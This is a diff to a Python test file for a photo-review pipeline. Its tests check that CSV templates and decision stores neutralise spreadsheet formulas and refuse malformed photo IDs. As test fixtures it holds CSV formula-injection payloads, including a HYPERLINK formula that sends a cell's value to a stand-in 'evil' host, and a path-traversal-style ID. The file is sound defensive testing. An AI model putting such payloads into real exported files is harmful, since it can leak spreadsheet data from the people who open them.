@@ -6,6 +6,7 @@ from __future__ import annotations
 import base64
 import csv
 import dataclasses
+import io
 import json
 from html.parser import HTMLParser
 
@@ -14,6 +15,7 @@ import pytest
 
 from pipeline.cli import main
 from pipeline.detectors.registry import load_registry
+from pipeline.io.sinks import FORMULA_STARTS
 from pipeline.release.review import apply_decisions, contact_sheet, review_script, trigger, write_review
 from pipeline.stages.detect import read_decisions
 from tests.conftest import photo, real_jpeg
@@ -133,17 +135,62 @@ def test_review_files_are_verified_against_the_manifest(tmp_path):
     assert [p.message for p in verify(str(tmp_path))] == ["1 records, manifest says 2"]
 
 
-def test_decisions_template_neutralises_formula_ids_and_apply_reads_them_back(tmp_path):
-    """A photo id a spreadsheet would evaluate is written as text ('=..., quoted); the reviewer's
-    copy of the template still names the same photo when applied."""
+def test_decisions_template_neutralises_formula_ids_and_apply_refuses_them(tmp_path):
+    """A photo id a spreadsheet would evaluate is written as text ('=..., quoted). No run holds such an id
+    (the sources refuse it: bad_id), and applying one is refused with its row: only photo numbers are
+    decided."""
     hostile = '=HYPERLINK("http://evil","x")'
     write_review([photo(hostile, image=real_jpeg("coffee.jpg"), scores=(("x.person", 0.4),))], str(tmp_path), [X])
     template = (tmp_path / "review" / "decisions_template.csv").read_text()
     assert template.splitlines()[1] == '"\'=HYPERLINK(""http://evil"",""x"")",,'
     decisions = tmp_path / "decisions.csv"
     decisions.write_text(template.replace(",,", ",accept,looked"))
+    with pytest.raises(ValueError, match=r"row 2: photo_id .* is not a Flickr photo number"):
+        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
+    assert not (tmp_path / "store.csv").exists()
+
+
+@pytest.mark.parametrize("spelled", ["7.0", "+7", "٧", "7e0", " ", "0", "../7"])
+def test_a_decision_for_an_id_spelled_otherwise_is_refused_with_its_row(tmp_path, spelled):
+    """'7.0' (a spreadsheet's number) was stored as it is and never matched photo 7: a reviewer's
+    reject_human silently left the photo in the dataset. The row number counts the skipped rows too."""
+    decisions = tmp_path / "d.csv"
+    decisions.write_text(f"photo_id,decision,note\n5,,\n{spelled},reject_human,face in the window\n",
+                         encoding="utf-8")
+    with pytest.raises(ValueError, match="row 3: photo_id"):
+        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
+    store = tmp_path / "hand-written.csv"
+    store.write_text(f"photo_id,decision,note\n{spelled},reject_human,\n", encoding="utf-8")
+    with pytest.raises(ValueError, match=r"hand-written\.csv:2: photo_id"):  # --review_decisions, at launch
+        read_decisions(str(store))
+
+
+def test_leading_zeros_name_the_photo(tmp_path):
+    decisions = tmp_path / "d.csv"
+    decisions.write_text("photo_id,decision,note\n007,reject_human,hand at the edge\n", encoding="utf-8")
     assert apply_decisions(str(decisions), str(tmp_path / "store.csv")) == (1, 1)
-    assert read_decisions(str(tmp_path / "store.csv")) == {hostile: ("accept", "looked")}
+    assert read_decisions(str(tmp_path / "store.csv")) == {"7": ("reject_human", "hand at the edge")}
+
+
+def test_the_store_is_formula_safe_and_gives_the_notes_back_as_written(tmp_path):
+    """The cumulative store was written with csv.writer: a note '=HYPERLINK(...)' reached a file reviewers
+    open in a spreadsheet as a live formula. Now it is '=... (quoted) on disk, the reviewer's text when read,
+    and stays so over further merges."""
+    note = '=HYPERLINK("http://evil/?x="&A1,"see")'
+    decisions = tmp_path / "d.csv"
+    decisions.write_text('photo_id,decision,note\n7,reject_other,"' + note.replace('"', '""') + '"\n'
+                         "9,accept,-looks fine\n", encoding="utf-8")
+    store = tmp_path / "store.csv"
+    apply_decisions(str(decisions), str(store))
+    first = store.read_text(encoding="utf-8")
+    for row in csv.reader(io.StringIO(first)):
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), first
+    assert read_decisions(str(store)) == {"7": ("reject_other", note), "9": ("accept", "-looks fine")}
+    again = tmp_path / "d2.csv"
+    again.write_text("photo_id,decision,note\n11,accept,\n", encoding="utf-8")
+    apply_decisions(str(again), str(store))
+    assert read_decisions(str(store)) == {"7": ("reject_other", note), "9": ("accept", "-looks fine"),
+                                          "11": ("accept", "")}
 
 
 def test_contact_sheet_links_only_http_urls():
